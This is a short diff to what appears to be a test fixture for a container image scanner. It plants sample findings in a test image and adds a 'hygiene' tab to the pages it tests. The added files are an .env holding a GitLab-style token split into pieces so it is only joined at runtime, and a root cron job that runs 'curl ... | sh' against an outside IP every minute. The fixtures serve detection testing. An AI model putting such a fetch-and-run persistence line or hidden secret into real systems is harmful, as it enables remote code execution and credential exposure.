@@ -34,6 +34,8 @@ async function fill(server: TestServer): Promise<void> {
       ['libexpat1', '2.5.0-1', 'expat'],
       ['zlib1g', '1:1.2.13.dfsg-1', 'zlib'],
     ]),
+    { path: 'app/.env', text: `GITLAB_TOKEN=${['glpat', 'Zk3hXcv7Pq0y1Lr9tUw2'].join('-')}\n` },
+    { path: 'etc/cron.d/update', text: '* * * * * root curl -s http://203.0.113.9/x | sh\n' },
   ];
   await pushImage(server, { repository: 'shop/web', tag: '1', layers: [{ instruction: 'debootstrap', files }] });
   await pushImage(server, {
@@ -55,6 +57,7 @@ const pages = [
   '/r/shop/web:1',
   '/r/shop/web:1?tab=findings',
   '/r/shop/web:1?tab=findings&by=list',
+  '/r/shop/web:1?tab=hygiene',
   '/r/shop/web:1?tab=packages',
   '/r/shop/web:1?tab=layers&layer=0',
   '/r/shop/web:1?tab=configuration',
